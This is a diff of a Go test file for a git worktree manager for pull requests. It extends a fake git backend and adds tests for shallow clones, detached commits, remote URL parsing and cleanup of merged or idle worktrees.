@@ -6,7 +6,10 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"reflect"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -32,6 +35,38 @@ type fakeGit struct {
 	branchAddCallCount    int
 	fetchBranchErr        error
 	submoduleUpdateErr    error
+	revs                  map[string]string
+	detachedAdds          []branchAddCall
+	deletedBranches       []string
+	removedRemotes        []string
+	branchUpstreams       map[string]string
+	currentBranches       map[string]string
+	upstreamRefs          map[string]string
+	aheadBehind           map[string][2]int
+	ancestors             map[string]bool
+	changedFiles          map[string][]string
+	fetchedRevs           map[string]string
+	resets                []string
+	commitCounts          map[string]int
+	fastForwards          []string
+	diffNames             map[string][]string
+	filesAtRev            map[string]string
+	sparseCheckouts       []string
+	submoduleOptions      []git.SubmoduleOptions
+	submodules            map[string][]git.Submodule
+	clones                []git.CloneOptions
+	shallowRepos          map[string]bool
+	shallowFetches        []shallowFetchCall
+	refetches             []string
+	dirtyErr              error
+	unmergedBranches      map[string]bool
+}
+
+type shallowFetchCall struct {
+	repoDir string
+	remote  string
+	refspec string
+	shallow git.ShallowFetch
 }
 
 type fakeRepo struct {
@@ -88,6 +123,20 @@ func newFakeGit() *fakeGit {
 		configs:          []configCall{},
 		branchAdds:       []branchAddCall{},
 		dirtyWorktrees:   map[string]bool{},
+		revs:             map[string]string{},
+		branchUpstreams:  map[string]string{},
+		currentBranches:  map[string]string{},
+		upstreamRefs:     map[string]string{},
+		aheadBehind:      map[string][2]int{},
+		ancestors:        map[string]bool{},
+		changedFiles:     map[string][]string{},
+		fetchedRevs:      map[string]string{},
+		commitCounts:     map[string]int{},
+		diffNames:        map[string][]string{},
+		filesAtRev:       map[string]string{},
+		submodules:       map[string][]git.Submodule{},
+		shallowRepos:     map[string]bool{},
+		unmergedBranches: map[string]bool{},
 	}
 }
 
@@ -96,7 +145,11 @@ func (f *fakeGit) IsGitRepo(_ context.Context, repoDir string) (bool, error) {
 	return ok, nil
 }
 
-func (f *fakeGit) Clone(_ context.Context, url string, dest string) error {
+func (f *fakeGit) Clone(_ context.Context, url string, dest string, opts git.CloneOptions) error {
+	f.clones = append(f.clones, opts)
+	if opts.Depth > 0 {
+		f.shallowRepos[dest] = true
+	}
 	if err := os.MkdirAll(dest, 0o755); err != nil {
 		return err
 	}
@@ -108,8 +161,29 @@ func (f *fakeGit) Clone(_ context.Context, url string, dest string) error {
 	return nil
 }
 
-func (f *fakeGit) CloneBare(ctx context.Context, url string, dest string, _ int) error {
-	return f.Clone(ctx, url, dest)
+func (f *fakeGit) CloneBare(ctx context.Context, url string, dest string, opts git.CloneOptions) error {
+	return f.Clone(ctx, url, dest, opts)
+}
+
+func (f *fakeGit) IsShallow(_ context.Context, repoDir string) (bool, error) {
+	return f.shallowRepos[repoDir], nil
+}
+
+func (f *fakeGit) IsPartialClone(_ context.Context, _ string) (bool, error) {
+	return false, nil
+}
+
+func (f *fakeGit) RefetchAll(_ context.Context, repoDir string) error {
+	f.refetches = append(f.refetches, repoDir)
+	return f.fetchErr
+}
+
+func (f *fakeGit) FetchShallow(_ context.Context, repoDir string, remote string, refspec string, shallow git.ShallowFetch) error {
+	f.shallowFetches = append(f.shallowFetches, shallowFetchCall{repoDir: repoDir, remote: remote, refspec: refspec, shallow: shallow})
+	if shallow.Unshallow {
+		f.shallowRepos[repoDir] = false
+	}
+	return f.fetchErr
 }
 
 func (f *fakeGit) Fetch(_ context.Context, repoDir string, remote string, refspec string) error {
@@ -119,7 +193,14 @@ func (f *fakeGit) Fetch(_ context.Context, repoDir string, remote string, refspe
 		f.fetchErrs = f.fetchErrs[1:]
 		return err
 	}
-	return f.fetchErr
+	if f.fetchErr != nil {
+		return f.fetchErr
+	}
+	// fetchedRevs simulates remote-tracking refs moving on fetch.
+	for rev, sha := range f.fetchedRevs {
+		f.revs[rev] = sha
+	}
+	return nil
 }
 
 func (f *fakeGit) FetchBranch(_ context.Context, repoDir string, remote string, branch string) error {
@@ -127,11 +208,16 @@ func (f *fakeGit) FetchBranch(_ context.Context, repoDir string, remote string,
 	return f.fetchBranchErr
 }
 
-func (f *fakeGit) SubmoduleUpdate(_ context.Context, repoDir string) error {
+func (f *fakeGit) SubmoduleUpdate(_ context.Context, repoDir string, opts git.SubmoduleOptions) error {
 	f.submoduleUpdates = append(f.submoduleUpdates, repoDir)
+	f.submoduleOptions = append(f.submoduleOptions, opts)
 	return f.submoduleUpdateErr
 }
 
+func (f *fakeGit) Submodules(_ context.Context, repoDir string) ([]git.Submodule, error) {
+	return f.submodules[repoDir], nil
+}
+
 func (f *fakeGit) WorktreeAdd(_ context.Context, repoDir string, worktreePath string, branch string) error {
 	if err := os.MkdirAll(worktreePath, 0o755); err != nil {
 		return err
@@ -161,6 +247,10 @@ func (f *fakeGit) WorktreeList(_ context.Context, repoDir string) ([]git.Worktre
 	}
 	var worktrees []git.Worktree
 	for branch, path := range repo.worktrees {
+		if strings.HasPrefix(branch, detachedKeyPrefix) {
+			worktrees = append(worktrees, git.Worktree{Path: path})
+			continue
+		}
 		worktrees = append(worktrees, git.Worktree{Path: path, Branch: "refs/heads/" + branch})
 	}
 	return worktrees, nil
@@ -234,6 +324,9 @@ func (f *fakeGit) ConfigSetWorktree(_ context.Context, repoDir string, key strin
 }
 
 func (f *fakeGit) IsWorktreeDirty(_ context.Context, repoDir string) (bool, error) {
+	if f.dirtyErr != nil {
+		return false, f.dirtyErr
+	}
 	return f.dirtyWorktrees[repoDir], nil
 }
 
@@ -262,9 +355,142 @@ func (f *fakeGit) WorktreeAddBranch(_ context.Context, repoDir string, worktreeP
 	return nil
 }
 
+// detachedKeyPrefix marks fakeRepo.worktrees entries without a branch.
+const detachedKeyPrefix = "detached:"
+
+func (f *fakeGit) WorktreeAddDetached(_ context.Context, repoDir string, worktreePath string, commit string) error {
+	if err := os.MkdirAll(worktreePath, 0o755); err != nil {
+		return err
+	}
+	f.repos[repoDir].worktrees[detachedKeyPrefix+worktreePath] = worktreePath
+	f.detachedAdds = append(f.detachedAdds, branchAddCall{repoDir: repoDir, path: worktreePath, startPoint: commit})
+	return nil
+}
+
+func (f *fakeGit) RevParse(_ context.Context, _ string, rev string) (string, error) {
+	if sha, ok := f.revs[rev]; ok {
+		return sha, nil
+	}
+	return "", fmt.Errorf("unknown revision %s", rev)
+}
+
+func (f *fakeGit) Remotes(_ context.Context, repoDir string) ([]string, error) {
+	repo, ok := f.repos[repoDir]
+	if !ok {
+		return nil, nil
+	}
+	names := make([]string, 0, len(repo.remotes))
+	for name := range repo.remotes {
+		names = append(names, name)
+	}
+	return names, nil
+}
+
+func (f *fakeGit) RemoveRemote(_ context.Context, repoDir string, name string) error {
+	delete(f.repos[repoDir].remotes, name)
+	f.removedRemotes = append(f.removedRemotes, name)
+	return nil
+}
+
+func (f *fakeGit) DeleteBranch(_ context.Context, _ string, branch string, force bool) error {
+	if !force && f.unmergedBranches[branch] {
+		return fmt.Errorf("branch %s is not fully merged", branch)
+	}
+	delete(f.branchUpstreams, branch)
+	f.deletedBranches = append(f.deletedBranches, branch)
+	return nil
+}
+
+func (f *fakeGit) BranchUpstreamRemotes(_ context.Context, _ string) (map[string]string, error) {
+	upstreams := make(map[string]string, len(f.branchUpstreams))
+	for branch, remote := range f.branchUpstreams {
+		upstreams[branch] = remote
+	}
+	return upstreams, nil
+}
+
+func (f *fakeGit) CurrentBranch(_ context.Context, repoDir string) (string, error) {
+	return f.currentBranches[repoDir], nil
+}
+
+func (f *fakeGit) Upstream(_ context.Context, repoDir string) (string, error) {
+	return f.upstreamRefs[repoDir], nil
+}
+
+// AheadBehind looks up counts keyed by "<local>...<upstream>".
+func (f *fakeGit) AheadBehind(_ context.Context, _ string, local string, upstream string) (int, int, error) {
+	counts, ok := f.aheadBehind[local+"..."+upstream]
+	if !ok {
+		return 0, 0, fmt.Errorf("unknown revision %s", upstream)
+	}
+	return counts[0], counts[1], nil
+}
+
+func (f *fakeGit) MergeBase(_ context.Context, _ string, a string, b string) (string, error) {
+	return f.revs["merge-base:"+a+"..."+b], nil
+}
+
+// IsAncestor looks up answers keyed by "<ancestor>..<descendant>".
+func (f *fakeGit) IsAncestor(_ context.Context, _ string, ancestor string, descendant string) (bool, error) {
+	return f.ancestors[ancestor+".."+descendant], nil
+}
+
+func (f *fakeGit) ChangedFiles(_ context.Context, repoDir string) ([]string, error) {
+	return f.changedFiles[repoDir], nil
+}
+
+// DiffNames looks up paths keyed by "<base>...<head>".
+func (f *fakeGit) DiffNames(_ context.Context, _ string, base string, head string) ([]string, error) {
+	names, ok := f.diffNames[base+"..."+head]
+	if !ok {
+		return nil, fmt.Errorf("unknown revision %s", base)
+	}
+	return names, nil
+}
+
+// FileAtRev looks up contents keyed by "<rev>:<path>".
+func (f *fakeGit) FileAtRev(_ context.Context, _ string, rev string, path string) (string, bool, error) {
+	data, ok := f.filesAtRev[rev+":"+path]
+	return data, ok, nil
+}
+
+func (f *fakeGit) SparseCheckoutSet(_ context.Context, repoDir string, dirs []string) error {
+	f.sparseCheckouts = append(f.sparseCheckouts, repoDir+": "+strings.Join(dirs, " "))
+	return nil
+}
+
+func (f *fakeGit) MergeFastForward(_ context.Context, repoDir string, rev string) error {
+	f.fastForwards = append(f.fastForwards, repoDir+"@"+rev)
+	f.revs["HEAD"] = rev
+	return nil
+}
+
+func (f *fakeGit) ResetHard(_ context.Context, repoDir string, rev string) error {
+	f.resets = append(f.resets, repoDir+"@"+rev)
+	f.revs["HEAD"] = rev
+	return nil
+}
+
+// CountCommits looks up counts keyed by "<rev> ^<exclude>..." and reports
+// zero for unknown keys.
+func (f *fakeGit) CountCommits(_ context.Context, _ string, rev string, exclude ...string) (int, error) {
+	key := rev
+	for _, excluded := range exclude {
+		key += " ^" + excluded
+	}
+	return f.commitCounts[key], nil
+}
+
+func writeTestWorktreeRecord(t *testing.T, metaRoot string, record WorktreeRecord) {
+	t.Helper()
+	if err := writeWorktreeRecord(metaRoot, record); err != nil {
+		t.Fatalf("write worktree record: %v", err)
+	}
+}
+
 func setTempWorktreeMarkerTime(t *testing.T, tempDir string, worktreePath string, when time.Time) {
 	t.Helper()
-	path := tempWorktreeMarkerPath(tempDir, worktreePath)
+	path := worktreeMarkerPath(tempDir, worktreePath)
 	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
 		t.Fatalf("mkdir usage marker dir: %v", err)
 	}
@@ -875,7 +1101,7 @@ func TestEnsureRepoAddsOriginIfMissing(t *testing.T) {
 		worktrees: map[string]string{},
 	}
 
-	err := ensureRepo(context.Background(), fake, repoDir, "https://github.com/octo/repo.git")
+	err := ensureRepo(context.Background(), fake, repoDir, "https://github.com/octo/repo.git", git.CloneOptions{})
 	if err != nil {
 		t.Fatalf("ensureRepo: %v", err)
 	}
@@ -963,6 +1189,77 @@ func TestResolveRepoDir_NoOrigin_UsesAlternate(t *testing.T) {
 	}
 }
 
+func TestResolveRepoDirSeparatesEnterpriseHost(t *testing.T) {
+	projectsDir := t.TempDir()
+	repoDir := filepath.Join(projectsDir, "repo")
+
+	if err := os.MkdirAll(repoDir, 0o755); err != nil {
+		t.Fatalf("mkdir repo: %v", err)
+	}
+
+	fake := newFakeGit()
+	fake.repos[repoDir] = &fakeRepo{
+		origin:    "https://github.com/octo/repo.git",
+		remotes:   map[string]string{"origin": "https://github.com/octo/repo.git"},
+		worktrees: map[string]string{},
+	}
+
+	repo := github.Repository{Host: "ghe.example.com", Owner: "octo", Name: "repo", CloneURL: "https://ghe.example.com/octo/repo.git"}
+	resolved, err := resolveRepoDir(context.Background(), fake, projectsDir, repo, nil)
+	if err != nil {
+		t.Fatalf("resolveRepoDir: %v", err)
+	}
+
+	expected := filepath.Join(projectsDir, "ghe.example.com-octo-repo")
+	if resolved != expected {
+		t.Fatalf("expected enterprise alternate path %s, got %s", expected, resolved)
+	}
+}
+
+func TestRemotesMatchRepoHosts(t *testing.T) {
+	cases := []struct {
+		remote   string
+		expected string
+		match    bool
+	}{
+		{"https://github.com/octo/repo.git", "https://github.com/octo/repo.git", true},
+		{"git@github.com:octo/repo.git", "https://github.com/octo/repo.git", true},
+		{"git@github-work:octo/repo.git", "https://github.com/octo/repo.git", true},
+		{"ssh://git@ghe.example.com:22/octo/repo.git", "https://ghe.example.com/octo/repo.git", true},
+		{"https://ghe.example.com/octo/repo.git", "https://github.com/octo/repo.git", false},
+		{"https://github.com/octo/other.git", "https://github.com/octo/repo.git", false},
+		{"git@github.com:Octo/Repo.git", "https://github.com/octo/repo.git", true},
+	}
+
+	for _, tc := range cases {
+		if got := remotesMatchRepo(tc.remote, tc.expected); got != tc.match {
+			t.Fatalf("remotesMatchRepo(%q, %q) = %v, expected %v", tc.remote, tc.expected, got, tc.match)
+		}
+	}
+}
+
+func TestRepoFromRemote(t *testing.T) {
+	cases := []struct {
+		remote string
+		want   github.Repository
+		ok     bool
+	}{
+		{"https://github.com/Octo/Repo.git", github.Repository{Host: "github.com", Owner: "Octo", Name: "Repo"}, true},
+		{"git@GitHub.com:pybamm-team/PyBaMM.git", github.Repository{Host: "github.com", Owner: "pybamm-team", Name: "PyBaMM"}, true},
+		{"git@github.com:octo/repo.git", github.Repository{Host: "github.com", Owner: "octo", Name: "repo"}, true},
+		{"ssh://git@ghe.example.com:2222/octo/repo.git", github.Repository{Host: "ghe.example.com", Owner: "octo", Name: "repo"}, true},
+		{"git@github-work:octo/repo.git", github.Repository{Owner: "octo", Name: "repo"}, true},
+		{"https://github.com/octo", github.Repository{}, false},
+	}
+
+	for _, tc := range cases {
+		got, ok := RepoFromRemote(tc.remote)
+		if ok != tc.ok || got != tc.want {
+			t.Fatalf("RepoFromRemote(%q) = %+v, %v; expected %+v, %v", tc.remote, got, ok, tc.want, tc.ok)
+		}
+	}
+}
+
 func TestResolveTempSameRepo(t *testing.T) {
 	tempDir := t.TempDir()
 	cfg := config.Config{ProjectsDir: t.TempDir(), TempDir: tempDir, TempTTL: 24 * time.Hour}
@@ -1000,8 +1297,8 @@ func TestResolveTempSameRepo(t *testing.T) {
 	if fake.upstreams[0].upstream != "origin/feature" {
 		t.Fatalf("expected upstream origin/feature, got %s", fake.upstreams[0].upstream)
 	}
-	if _, err := os.Stat(tempWorktreeMarkerPath(tempDir, expectedWorktree)); err != nil {
-		t.Fatalf("expected temp usage marker to exist: %v", err)
+	if _, err := os.Stat(worktreeRecordPath(tempDir, expectedWorktree)); err != nil {
+		t.Fatalf("expected temp worktree metadata to exist: %v", err)
 	}
 	if _, err := os.Stat(filepath.Join(expectedWorktree, ".prt-last-used")); !os.IsNotExist(err) {
 		t.Fatalf("expected no marker file inside the worktree")
@@ -1107,8 +1404,8 @@ func TestResolveTempReusesExistingWorktree(t *testing.T) {
 	if fake.upstreams[0].upstream != "origin/feature" {
 		t.Fatalf("expected upstream origin/feature, got %s", fake.upstreams[0].upstream)
 	}
-	if _, err := os.Stat(tempWorktreeMarkerPath(tempDir, worktreePath)); err != nil {
-		t.Fatalf("expected temp usage marker to exist: %v", err)
+	if _, err := os.Stat(worktreeRecordPath(tempDir, worktreePath)); err != nil {
+		t.Fatalf("expected temp worktree metadata to exist: %v", err)
 	}
 }
 
@@ -1310,7 +1607,7 @@ func TestEnsureRepoRejectsMismatchedOrigin(t *testing.T) {
 		worktrees: map[string]string{},
 	}
 
-	err := ensureRepo(context.Background(), fake, repoDir, "https://github.com/octo/repo.git")
+	err := ensureRepo(context.Background(), fake, repoDir, "https://github.com/octo/repo.git", git.CloneOptions{})
 	if err == nil {
 		t.Fatalf("expected mismatched origin to fail")
 	}
@@ -1331,7 +1628,7 @@ func TestEnsureBareRepoRejectsMismatchedOrigin(t *testing.T) {
 		worktrees: map[string]string{},
 	}
 
-	err := ensureBareRepo(context.Background(), fake, bareDir, "https://github.com/octo/repo.git")
+	err := ensureBareRepo(context.Background(), fake, bareDir, "https://github.com/octo/repo.git", git.CloneOptions{})
 	if err == nil {
 		t.Fatalf("expected mismatched bare origin to fail")
 	}
@@ -1371,3 +1668,1451 @@ func TestResolveMergedPRFallsBackToPullRef(t *testing.T) {
 		t.Fatalf("expected a resolved worktree path")
 	}
 }
+
+func TestResolveCommitDetached(t *testing.T) {
+	projectsDir := t.TempDir()
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: t.TempDir(), TempTTL: 24 * time.Hour}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+	sha := "abc1234def5678abc1234def5678abc1234def56"
+
+	fake := newFakeGit()
+	fake.revs["abc1234^{commit}"] = sha
+	resolver := NewResolver(fake, ResolverOptions{})
+
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{Commit: "abc1234", CommitMode: CommitModeDetach})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	expected := filepath.Join(projectsDir, "repo") + "-worktrees/pr-15-feature-abc1234def56"
+	if result.Path != expected {
+		t.Fatalf("expected worktree %s, got %s", expected, result.Path)
+	}
+	if len(fake.detachedAdds) != 1 || fake.detachedAdds[0].startPoint != sha {
+		t.Fatalf("expected detached worktree at %s, got %+v", sha, fake.detachedAdds)
+	}
+	if len(fake.branchAdds) != 0 {
+		t.Fatalf("expected no branch worktree, got %+v", fake.branchAdds)
+	}
+
+	again, err := resolver.Resolve(context.Background(), cfg, pr, Options{Commit: "abc1234", CommitMode: CommitModeDetach})
+	if err != nil {
+		t.Fatalf("resolve again: %v", err)
+	}
+	if !again.Reused || again.Path != expected {
+		t.Fatalf("expected detached worktree reuse, got %+v", again)
+	}
+}
+
+func TestResolveCommitBranchFetchesMissingCommit(t *testing.T) {
+	projectsDir := t.TempDir()
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: t.TempDir(), TempTTL: 24 * time.Hour}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+	sha := "abc1234def5678abc1234def5678abc1234def56"
+
+	fake := newFakeGit()
+	resolver := NewResolver(fake, ResolverOptions{})
+
+	_, err := resolver.Resolve(context.Background(), cfg, pr, Options{Commit: sha, CommitMode: CommitModeBranch})
+	if err == nil {
+		t.Fatal("expected unresolvable commit to fail")
+	}
+	last := fake.fetches[len(fake.fetches)-1]
+	if last.remote != "origin" || last.refspec != sha {
+		t.Fatalf("expected direct fetch of %s, got %+v", sha, last)
+	}
+
+	fake.revs[sha+"^{commit}"] = sha
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{Commit: sha, CommitMode: CommitModeBranch})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.branchAdds) != 1 {
+		t.Fatalf("expected one branch worktree, got %+v", fake.branchAdds)
+	}
+	if fake.branchAdds[0].branch != "pr/15/commit-abc1234def56" || fake.branchAdds[0].startPoint != sha {
+		t.Fatalf("unexpected branch worktree: %+v", fake.branchAdds[0])
+	}
+	if !strings.HasSuffix(result.Path, "pr-15-feature-abc1234def56") {
+		t.Fatalf("unexpected worktree path %s", result.Path)
+	}
+}
+
+func TestListFindsPersistentAndTempWorktrees(t *testing.T) {
+	projectsDir := t.TempDir()
+	tempDir := t.TempDir()
+	repoDir := filepath.Join(projectsDir, "repo")
+	persistentPath := repoDir + "-worktrees/pr-15-feature"
+	bareDir := filepath.Join(tempDir, "octo-repo.git")
+	tempPath := filepath.Join(tempDir, "octo-repo-pr-7-fix")
+	missingPath := filepath.Join(tempDir, "octo-repo-pr-8-gone")
+
+	for _, dir := range []string{repoDir, persistentPath, bareDir, tempPath} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+	lastUsed := time.Now().Add(-2 * time.Hour).Truncate(time.Second)
+	setTempWorktreeMarkerTime(t, tempDir, tempPath, lastUsed)
+
+	fake := newFakeGit()
+	fake.dirtyWorktrees[persistentPath] = true
+	fake.repos[repoDir] = &fakeRepo{
+		origin:    "git@github.com:octo/repo.git",
+		remotes:   map[string]string{"origin": "git@github.com:octo/repo.git"},
+		worktrees: map[string]string{"main": repoDir, "feature": persistentPath},
+	}
+	fake.repos[bareDir] = &fakeRepo{
+		origin:    "https://github.com/octo/repo.git",
+		remotes:   map[string]string{"origin": "https://github.com/octo/repo.git"},
+		worktrees: map[string]string{"pr/7/fix": tempPath, "pr/8/gone": missingPath},
+	}
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: tempDir}
+	infos, err := resolver.List(context.Background(), cfg)
+	if err != nil {
+		t.Fatalf("list: %v", err)
+	}
+	if len(infos) != 3 {
+		t.Fatalf("expected 3 worktrees, got %+v", infos)
+	}
+
+	persistent := infos[0]
+	if persistent.Path != persistentPath || persistent.Number != 15 || persistent.Temp || !persistent.Dirty {
+		t.Fatalf("unexpected persistent worktree: %+v", persistent)
+	}
+	if persistent.Branch != "feature" {
+		t.Fatalf("expected branch feature, got %s", persistent.Branch)
+	}
+	if persistent.PRURL() != "https://github.com/octo/repo/pull/15" {
+		t.Fatalf("unexpected PR URL %s", persistent.PRURL())
+	}
+
+	temp := infos[1]
+	if temp.Path != tempPath || temp.Number != 7 || !temp.Temp || temp.Dirty {
+		t.Fatalf("unexpected temp worktree: %+v", temp)
+	}
+	if !temp.LastUsed.Equal(lastUsed) {
+		t.Fatalf("expected last used %s, got %s", lastUsed, temp.LastUsed)
+	}
+
+	missing := infos[2]
+	if missing.Number != 8 || !missing.Missing {
+		t.Fatalf("expected missing temp worktree, got %+v", missing)
+	}
+}
+
+func TestResolvePersistentTouchesUsageMarker(t *testing.T) {
+	projectsDir := t.TempDir()
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: t.TempDir(), TempTTL: 24 * time.Hour}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	fake := newFakeGit()
+	resolver := NewResolver(fake, ResolverOptions{})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	worktreesDir := filepath.Join(projectsDir, "repo") + "-worktrees"
+	if _, ok, err := worktreeLastUsedAt(worktreesDir, result.Path); err != nil || !ok {
+		t.Fatalf("expected usage marker for persistent worktree (ok=%v, err=%v)", ok, err)
+	}
+	url, err := worktreePRURL(worktreesDir, result.Path)
+	if err != nil {
+		t.Fatalf("read marker URL: %v", err)
+	}
+	if url != "https://github.com/octo/repo/pull/15" {
+		t.Fatalf("expected marker to record PR URL, got %q", url)
+	}
+}
+
+func TestCleanTempRemovesMergedAndClosedRegardlessOfAge(t *testing.T) {
+	tempDir := t.TempDir()
+	bareDir := filepath.Join(tempDir, "octo-repo.git")
+	mergedPath := filepath.Join(tempDir, "octo-repo-pr-1-merged")
+	legacyPath := filepath.Join(tempDir, "octo-repo-pr-2-legacy")
+	openPath := filepath.Join(tempDir, "octo-repo-pr-3-open")
+
+	for _, dir := range []string{bareDir, mergedPath, legacyPath, openPath} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+	if err := writeWorktreeRecord(tempDir, WorktreeRecord{Path: mergedPath, URL: "https://github.com/octo/repo/pull/1", LastUsedAt: time.Now()}); err != nil {
+		t.Fatalf("write record: %v", err)
+	}
+	// Markers written by older versions are empty; the URL is derived from
+	// the bare repo origin and the directory name.
+	setTempWorktreeMarkerTime(t, tempDir, legacyPath, time.Now())
+	if err := writeWorktreeRecord(tempDir, WorktreeRecord{Path: openPath, URL: "https://github.com/octo/repo/pull/3", LastUsedAt: time.Now()}); err != nil {
+		t.Fatalf("write record: %v", err)
+	}
+
+	fake := newFakeGit()
+	fake.repos[bareDir] = &fakeRepo{origin: "https://github.com/octo/repo.git", worktrees: map[string]string{
+		"pr/1/merged": mergedPath,
+		"pr/2/legacy": legacyPath,
+		"pr/3/open":   openPath,
+	}}
+
+	states := map[string]string{
+		"https://github.com/octo/repo/pull/1": "MERGED",
+		"https://github.com/octo/repo/pull/2": "CLOSED",
+		"https://github.com/octo/repo/pull/3": "OPEN",
+	}
+	resolver := NewResolver(fake, ResolverOptions{})
+	results, err := resolver.CleanTempWithOptions(context.Background(), tempDir, TempCleanOptions{
+		TTL:    24 * time.Hour,
+		States: []string{"MERGED", "CLOSED"},
+		PRState: func(_ context.Context, info WorktreeInfo) (string, error) {
+			return states[info.PRURL()], nil
+		},
+	})
+	if err != nil {
+		t.Fatalf("clean temp: %v", err)
+	}
+
+	reasons := map[string]string{}
+	for _, result := range results {
+		reasons[result.Path] = result.Reason
+	}
+	if len(results) != 2 || reasons[mergedPath] != "PR merged" || reasons[legacyPath] != "PR closed" {
+		t.Fatalf("unexpected results %+v", results)
+	}
+	if pathExists(mergedPath) || pathExists(legacyPath) || !pathExists(openPath) {
+		t.Fatalf("expected only merged and closed worktrees to be removed")
+	}
+}
+
+func TestCleanTempMergedOnlyKeepsClosed(t *testing.T) {
+	tempDir := t.TempDir()
+	bareDir := filepath.Join(tempDir, "octo-repo.git")
+	closedPath := filepath.Join(tempDir, "octo-repo-pr-4-closed")
+	for _, dir := range []string{bareDir, closedPath} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+
+	fake := newFakeGit()
+	fake.repos[bareDir] = &fakeRepo{origin: "https://github.com/octo/repo.git", worktrees: map[string]string{
+		"pr/4/closed": closedPath,
+	}}
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	results, err := resolver.CleanTempWithOptions(context.Background(), tempDir, TempCleanOptions{
+		States: []string{"MERGED"},
+		PRState: func(context.Context, WorktreeInfo) (string, error) {
+			return "CLOSED", nil
+		},
+	})
+	if err != nil {
+		t.Fatalf("clean temp: %v", err)
+	}
+	if len(results) != 0 || !pathExists(closedPath) {
+		t.Fatalf("expected closed worktree to be kept, got %+v", results)
+	}
+}
+
+func TestCleanPersistentRemovesMergedAndIdleWorktrees(t *testing.T) {
+	projectsDir := t.TempDir()
+	repoDir := filepath.Join(projectsDir, "repo")
+	worktreesDir := repoDir + "-worktrees"
+	mergedPath := filepath.Join(worktreesDir, "pr-1-fix")
+	idlePath := filepath.Join(worktreesDir, "pr-2-idle")
+	openPath := filepath.Join(worktreesDir, "pr-3-open")
+	dirtyPath := filepath.Join(worktreesDir, "pr-4-dirty")
+	localPath := filepath.Join(worktreesDir, "pr-5-local")
+
+	for _, dir := range []string{repoDir, mergedPath, idlePath, openPath, dirtyPath, localPath} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+	now := time.Now()
+	writeTestWorktreeRecord(t, worktreesDir, WorktreeRecord{Path: mergedPath, BaseRepo: "octo/repo", HeadRepo: "fork/repo", LastUsedAt: now})
+	setTempWorktreeMarkerTime(t, worktreesDir, idlePath, now.Add(-72*time.Hour))
+	writeTestWorktreeRecord(t, worktreesDir, WorktreeRecord{Path: openPath, BaseRepo: "octo/repo", HeadRepo: "other/repo", LastUsedAt: now})
+	setTempWorktreeMarkerTime(t, worktreesDir, dirtyPath, now)
+	setTempWorktreeMarkerTime(t, worktreesDir, localPath, now.Add(-72*time.Hour))
+
+	fake := newFakeGit()
+	fake.dirtyWorktrees[dirtyPath] = true
+	fake.upstreamRefs[mergedPath] = "prt/fork/repo/fix"
+	fake.upstreamRefs[idlePath] = "origin/idle"
+	fake.upstreamRefs[localPath] = "origin/local"
+	fake.commitCounts["HEAD ^origin/local"] = 2
+	// The idle PR's branch is not merged, so it is kept without force.
+	fake.unmergedBranches["pr/2/idle"] = true
+	fake.repos[repoDir] = &fakeRepo{
+		origin: "git@github.com:octo/repo.git",
+		remotes: map[string]string{
+			"origin":         "git@github.com:octo/repo.git",
+			"prt/fork/repo":  "https://github.com/fork/repo.git",
+			"prt/other/repo": "https://github.com/other/repo.git",
+			// Not created for any worktree prt is cleaning up.
+			"prt/stale/repo": "https://github.com/stale/repo.git",
+		},
+		worktrees: map[string]string{
+			"main":       repoDir,
+			"pr/1/fix":   mergedPath,
+			"pr/2/idle":  idlePath,
+			"pr/3/open":  openPath,
+			"pr/4/wip":   dirtyPath,
+			"pr/5/local": localPath,
+		},
+	}
+	fake.branchUpstreams = map[string]string{
+		"main":      "origin",
+		"pr/1/fix":  "prt/fork/repo",
+		"pr/3/open": "prt/other/repo",
+	}
+
+	states := map[int]string{1: "MERGED", 2: "OPEN", 3: "OPEN", 4: "CLOSED", 5: "OPEN"}
+	resolver := NewResolver(fake, ResolverOptions{})
+	results, err := resolver.CleanPersistent(context.Background(), projectsDir, PersistentCleanOptions{
+		TTL: 48 * time.Hour,
+		PRState: func(_ context.Context, info WorktreeInfo) (string, error) {
+			return states[info.Number], nil
+		},
+	})
+	if err != nil {
+		t.Fatalf("clean persistent: %v", err)
+	}
+
+	if pathExists(mergedPath) || pathExists(idlePath) {
+		t.Fatalf("expected merged and idle worktrees to be removed")
+	}
+	if !pathExists(openPath) || !pathExists(dirtyPath) || !pathExists(localPath) {
+		t.Fatalf("expected open, dirty, and unpushed worktrees to be kept")
+	}
+	if len(fake.deletedBranches) != 1 || fake.deletedBranches[0] != "pr/1/fix" {
+		t.Fatalf("expected only pr/1/fix to be deleted, got %v", fake.deletedBranches)
+	}
+	if len(fake.removedRemotes) != 1 || fake.removedRemotes[0] != "prt/fork/repo" {
+		t.Fatalf("expected only prt/fork/repo to be removed, got %v", fake.removedRemotes)
+	}
+
+	reasons := map[string]string{}
+	for _, result := range results {
+		if result.Branch == "pr/2/idle" && result.Action != CleanActionSkipped {
+			t.Fatalf("expected the unmerged idle branch to be kept, got %+v", result)
+		}
+		if result.Branch != "" || result.Remote != "" {
+			continue
+		}
+		reasons[result.Path] = string(result.Action) + ": " + result.Reason
+	}
